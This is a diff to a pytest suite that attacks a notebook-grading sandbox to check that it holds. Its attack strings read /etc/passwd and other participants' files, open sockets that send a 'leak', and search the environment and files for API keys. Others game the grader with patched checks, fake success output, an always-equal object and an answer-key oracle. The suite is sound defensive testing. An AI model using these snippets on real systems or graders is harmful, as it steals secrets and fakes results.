@@ -76,11 +76,12 @@ ATTACKS = {
     "read_etc": ("print(open('/etc/passwd').read())", RIGHT),
     "read_gradebook": ("print(open('GRADEBOOK', 'rb').read(100))", RIGHT),
     "write_other_participant": (f"open({'OTHER'!r}, 'w').write('{{}}')", RIGHT),
-    "read_other_participant": ("import os\nprint(os.listdir('..'), open('../honest1/answers.json').read())", RIGHT),
+    "read_other_participant": ("import os\nprint('NEIGHBOURS', [d for d in os.listdir('..') if d != os.path.basename(os.getcwd())])\n"
+                               "print(open('OTHER').read())", RIGHT),
     "open_socket": ("import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=3).sendall(b'leak')", RIGHT),
     "open_socket_internet": ("import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=3)", RIGHT),
     "search_canary": (
-        "import os\nprint('SEARCHING', flush=True)\n"
+        "import os, sys\nprint('SEARCHING', flush=True)\n"
         "for k, v in os.environ.items():\n"
         "    if 'CANARY' in v or 'sk-' in v:\n        print('HIT env', k, v, flush=True)\n"
         "for pid in os.listdir('/proc'):\n"
@@ -88,7 +89,7 @@ ATTACKS = {
         "    except Exception:\n        continue\n"
         "    if b'CANARY-7f3a9c' in data:\n        print('HIT proc', pid, data, flush=True)\n"
         "for root, dirs, files in os.walk('/'):\n"
-        "    if root.startswith(('/proc', '/sys', '/dev', '/usr')) or '/lib/python' in root:\n"
+        "    if root.startswith(('/proc', '/sys', '/dev', '/usr', '/lib', '/bin', '/sbin', sys.prefix, sys.base_prefix)):\n"
         "        dirs[:] = []\n        continue\n"
         "    for f in files:\n"
         "        try:\n            data = open(os.path.join(root, f), 'rb').read(2_000_000)\n"
@@ -103,6 +104,17 @@ ATTACKS = {
         "def quiet(*a, **k):\n    r = _run(*a, **k)\n    r.error_in_exec = None\n    return r\n"
         "ip.showtraceback = lambda *a, **k: None", WRONG),
     "fake_results": ("print('✅ q2_cell_kind: सही / correct')", WRONG),
+    # reads each hidden check as it arrives and writes the answer it expects (beat the old re-check)
+    "answer_key_oracle": (
+        "import json, re\n"
+        "def _oracle(lines):\n"
+        "    code = ''.join(lines)\n"
+        "    for qid, value in re.findall(r'check\\.\\w+\\(\"(q\\d+_\\w+)\", got[^,]*, ([^,]+),', code):\n"
+        "        data = json.load(open('answers.json'))\n"
+        "        data['answers'][qid] = {'value': eval(value), 'saved': 'x'}\n"
+        "        json.dump(data, open('answers.json', 'w'))\n"
+        "    return lines\n"
+        "get_ipython().input_transformers_cleanup.append(_oracle)", WRONG),
     "liar_object": ("class Liar:\n    def __eq__(self, other):\n        return True\n"
                     "    def __hash__(self):\n        return 0\nanswer_q1 = Liar()", RIGHT),
     "pasted_key": (f"OPENAI_API_KEY = {KEY!r}", RIGHT),
@@ -117,8 +129,10 @@ NOTEBOOK_ATTACKS = {
 @pytest.fixture(scope="module")
 def batch(tmp_path_factory):
     """One batch: every attack above plus three honest participants, graded by the engine."""
-    if not sandbox.bwrap_works():
-        pytest.skip("bubblewrap is not available: `make test` installs it as root; the weak sandbox is tested apart")
+    strong = sandbox.bwrap_works()
+    if not strong and os.geteuid() == 0:
+        pytest.skip("no bubblewrap, and as root the grader refuses the weak mode (participant code would be root): "
+                    "`make test` installs bubblewrap")
     home = tmp_path_factory.mktemp("attack-home")
     listener = socket.socket()
     listener.bind(("127.0.0.1", 0))
@@ -136,6 +150,9 @@ def batch(tmp_path_factory):
     threading.Thread(target=accept, daemon=True).start()
     with pytest.MonkeyPatch.context() as mp:
         mp.setenv("CAMP_HOME", str(home))
+        if not strong:  # the limits, verdicts and flags are tested anyway; the file/network tests say they skip
+            print("bubblewrap is not available: the attack suite runs in the WEAK sandbox mode")
+            mp.setenv("CAMP_SANDBOX", "off")
         mp.setenv("OPENAI_API_KEY", "sk-" + CANARY)  # the trainer's own secret, in the trainer's environment
         mp.setenv("CAMP_TRAINER_NOTE", CANARY)
         from grader.course import init_course
@@ -185,9 +202,14 @@ def batch(tmp_path_factory):
                 if status == "graded":
                     nb = gb.find_submission_notebook(A, A, student)
                     scores[student] = {g.name: g.score for g in nb.grades if g.name.endswith("_test")}
-        yield {"result": result, "scores": scores, "home": home, "other_before": before,
+        yield {"result": result, "scores": scores, "home": home, "other_before": before, "strong": strong,
                "other_after": other.read_text(encoding="utf-8"), "received": received}
     listener.close()
+
+
+def _strong(batch) -> None:
+    if not batch["strong"]:
+        pytest.skip("a property of the bubblewrap sandbox; this machine runs the weak mode (no bubblewrap)")
 
 
 def _outputs(batch, student) -> str:
@@ -201,7 +223,7 @@ def test_the_batch_finishes_and_honest_participants_get_their_scores(batch):
     assert sum(scores["honest1"].values()) == FULL and sum(scores["honest3"].values()) == FULL
     assert scores["honest2"]["q1_run_key_test"] == 0 and sum(scores["honest2"].values()) == FULL - 1
     assert "honest1" not in result.review and "honest2" not in result.review
-    assert result.sandbox.startswith("sandbox: bubblewrap")
+    assert result.sandbox.startswith("sandbox: bubblewrap" if batch["strong"] else "WARNING: sandbox is WEAK")
 
 
 @pytest.mark.parametrize("name", ["infinite_loop", "memory_bomb", "output_flood", "sys_exit"])
@@ -233,13 +255,20 @@ def test_ignoring_interrupts_hits_the_notebook_time_limit(batch):
 
 @pytest.mark.parametrize("name", ["read_etc", "read_gradebook", "read_other_participant"])
 def test_files_outside_the_submission_are_invisible(batch, name):
+    _strong(batch)
     text = _outputs(batch, name)
     assert "FileNotFoundError" in text
-    assert "root:x:0" not in text and "SQLite format" not in text and "q1_run_key" not in text.split("listdir")[-1][:0]
+    assert "root:x:0" not in text and "SQLite format" not in text
     assert sum(batch["scores"][name].values()) == FULL
+    if name == "read_other_participant":  # its neighbours' job folders, and the real path to honest1's answers
+        nb = json.loads(text)
+        printed = "".join("".join(o.get("text", "")) for c in nb["cells"] for o in c.get("outputs", []))
+        neighbours = next(line for line in printed.splitlines() if line.startswith("NEIGHBOURS"))
+        assert neighbours == "NEIGHBOURS []", neighbours
 
 
 def test_another_participants_folder_cannot_be_written(batch):
+    _strong(batch)
     assert batch["other_after"] == batch["other_before"]
     assert sum(batch["scores"]["honest1"].values()) == FULL
     assert "FileNotFoundError" in _outputs(batch, "write_other_participant")
@@ -247,30 +276,35 @@ def test_another_participants_folder_cannot_be_written(batch):
 
 @pytest.mark.parametrize("name", ["open_socket", "open_socket_internet"])
 def test_there_is_no_network(batch, name):
+    _strong(batch)
     assert batch["received"] == []
     text = _outputs(batch, name)
     assert "OSError" in text or "ConnectionRefusedError" in text or "Network is unreachable" in text
 
 
 def test_canary_in_hidden_tests_and_trainer_environment_is_not_found(batch):
-    """Environment, process list and every readable file searched (until done or cut off by the cell limit)."""
+    """Environment, process list and every readable file searched, to the end."""
+    _strong(batch)
     nb = json.loads(_outputs(batch, "search_canary"))
     printed = "".join("".join(o.get("text", "")) for c in nb["cells"] for o in c.get("outputs", []))
-    assert "SEARCHING" in printed, "the search ran"
+    assert "SEARCHING" in printed and "SEARCHED" in printed, "the search ran to the end"
     assert "HIT" not in printed and CANARY not in printed
 
 
-@pytest.mark.parametrize("name", ["patch_checks", "swallow_errors", "fake_results"])
+@pytest.mark.parametrize("name", ["patch_checks", "swallow_errors", "fake_results", "answer_key_oracle"])
 def test_wrong_answers_stay_wrong_whatever_the_code_does(batch, name):
     """Patching the checks, hiding errors or printing fake ticks never turns a wrong answer into points."""
     scores = batch["scores"][name]
     assert sum(scores.values()) == 0, scores
 
 
-def test_patched_checks_are_caught_by_the_recheck_and_flagged(batch):
+def test_the_verdict_is_made_outside_the_kernel_whatever_it_patched(batch):
+    """Patched checks change nothing (the checks never ran in the kernel); the trainer is still told."""
     notes = batch["result"].review["patch_checks"]
-    assert any("fails the re-check" in n for n in notes)
     assert any("reaches for the grading helpers" in n for n in notes)
+    for name in ("patch_checks", "answer_key_oracle"):
+        text = _outputs(batch, name)
+        assert "❌ Question 1:" in text and "✅ Question 1" not in text
 
 
 def test_an_object_claiming_equality_scores_nothing(batch):
@@ -309,9 +343,15 @@ def test_broken_notebooks_are_ungradable_with_reasons(batch):
     assert outcome["renamed_notebook"].startswith("ungradable: notebook 00-start-here.ipynb missing")
 
 
-def test_weak_sandbox_says_so_loudly(monkeypatch):
+def test_weak_sandbox_says_so_loudly_and_keeps_the_trainers_secrets(monkeypatch, tmp_path):
     monkeypatch.setenv("CAMP_SANDBOX", "off")
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-" + CANARY)
+    monkeypatch.setenv("CAMP_TRAINER_NOTE", CANARY)
+    assert os.environ["OPENAI_API_KEY"].endswith(CANARY)
     box = sandbox.Sandbox.detect()
     assert not box.strong and box.describe().startswith("WARNING: sandbox is WEAK")
-    env = box.env(__import__("pathlib").Path(os.environ.get("TMPDIR", "/tmp")) / "camp-env-probe")
-    assert "OPENAI_API_KEY" not in env and all("CANARY" not in v for v in env.values())
+    env = box.kernel_env(tmp_path / "scratch" / "jobs" / "j1")
+    assert "OPENAI_API_KEY" not in env and all(CANARY not in v for v in env.values())
+    if os.geteuid() == 0:
+        with pytest.raises(RuntimeError, match="refusing to grade as root without bubblewrap"):
+            box.check_allowed()
